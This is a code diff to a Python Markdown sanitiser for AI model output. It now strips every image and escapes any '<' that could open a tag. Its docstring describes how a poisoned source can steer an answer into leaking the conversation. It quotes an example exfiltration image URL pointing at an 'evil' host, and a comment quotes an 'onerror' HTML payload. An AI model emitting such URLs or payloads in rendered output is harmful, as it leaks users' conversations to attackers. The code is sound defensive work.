@@ -1,8 +1,9 @@
 """Model output is shown as Markdown in a browser: neutralise what could leak data or run there.
 
 A Markdown image loads its URL as soon as it is rendered, so an answer steered by a poisoned document can send
-the conversation to an attacker's server (`![x](https://evil/?q=secret)`). Links and images survive only when
-their URL appears in the sources the answer was built from; raw HTML is escaped.
+the conversation to an attacker's server (`![x](https://evil/?q=secret)`): images never render, whatever their URL
+(a poisoned source may hold the attacker's URL itself). Links survive only when their URL appears in the sources the
+answer was built from (a click is the reader's choice, and the source shows the same URL); raw HTML is escaped.
 """
 
 from __future__ import annotations
@@ -14,7 +15,9 @@ _IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
 _LINK = re.compile(r"(?<!!)\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
 _REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*(\S+).*$", re.MULTILINE)
 _AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]+)>", re.IGNORECASE)
-_HTML_TAG = re.compile(r"<(/?[a-zA-Z!][^>]*)>")
+# Every "<" that could open a tag is escaped, closed or not: a tag may span lines (`<img\nsrc=x onerror=…>`), and
+# escaping its bracket is enough, line by line, whatever follows.
+_HTML_OPEN = re.compile(r"<(?!(?:https?|ftp|mailto):)(?=\s*/?\s*[a-zA-Z!?])")  # (autolinks left are allowed)
 _TRIGGER = re.compile(r"[\[!<:(`]")  # where a construct the sanitiser rewrites can begin
 _BARE_URL = re.compile(r"(?<![`(<\w])((?:https?|ftp)://[^\s)>\]`]+)")
 _TAG_CHARACTERS = re.compile("[\U000E0000-\U000E007F]")
@@ -33,8 +36,7 @@ def allowed_urls(texts: Iterable[str]) -> set[str]:
 
 def sanitise_markdown(text: str, allowed: set[str] = frozenset()) -> str:
     def image(match: re.Match) -> str:
-        alt, url = match.group(1), match.group(2)
-        return match.group(0) if url in allowed else f"[image removed: {alt or 'no description'}]"
+        return f"[image removed: {match.group(1) or 'no description'}]"
 
     def link(match: re.Match) -> str:
         label, url = match.group(1), match.group(2)
@@ -44,7 +46,7 @@ def sanitise_markdown(text: str, allowed: set[str] = frozenset()) -> str:
     text = _LINK.sub(link, text)
     text = _REFERENCE_DEFINITION.sub(lambda m: m.group(0) if m.group(1) in allowed else "", text)
     text = _AUTOLINK.sub(lambda m: m.group(0) if m.group(1) in allowed else f"`{m.group(1)}`", text)
-    text = _HTML_TAG.sub(lambda m: f"&lt;{m.group(1)}&gt;", text)
+    text = _HTML_OPEN.sub("&lt;", text)
     return _BARE_URL.sub(lambda m: m.group(1) if m.group(1) in allowed else f"`{m.group(1)}`", text)
 
 
